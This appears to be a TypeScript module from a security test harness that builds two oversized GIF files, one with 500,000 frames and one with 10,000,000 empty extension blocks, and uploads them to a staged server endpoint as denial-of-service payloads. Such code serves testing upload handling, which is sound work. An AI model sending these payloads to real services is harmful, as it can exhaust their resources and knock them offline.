import type { Attack } from './attack';
import { boundary, uploadHead } from './bodies';
import { exchange } from './raw-http';

const frame = Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0]);
const emptyExtension = Buffer.from([0x21, 0xf9, 1, 0, 0]);

/** A GIF of 1 x 1 pixels. */
function gifOf(...blocks: Buffer[]): Buffer {
  const head = Buffer.from([
    ...Buffer.from('GIF89a'),
    ...[1, 0, 1, 0, 0x80, 0, 0],
    ...[0, 0, 0, 255, 255, 255],
  ]);
  return Buffer.concat([head, ...blocks, Buffer.from([0x3b])]);
}

const repeated = (block: Buffer, count: number): Buffer => Buffer.alloc(block.length * count, block);

const upload = (name: string, makeGif: () => Buffer): Attack => ({
  name,
  async run(stage) {
    const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="long.gif"\r\n\r\n`;
    const body = Buffer.concat([Buffer.from(head), makeGif(), Buffer.from(`\r\n--${boundary}--\r\n`)]);
    return exchange(stage.url, [uploadHead(stage, body.length), body]);
  },
});

export const manyFrames = upload('a GIF with 500,000 frames', () => gifOf(repeated(frame, 500_000)));

export const manyBlocks = upload('a GIF with 10,000,000 empty extensions', () =>
  gifOf(repeated(emptyExtension, 10_000_000), frame),
);
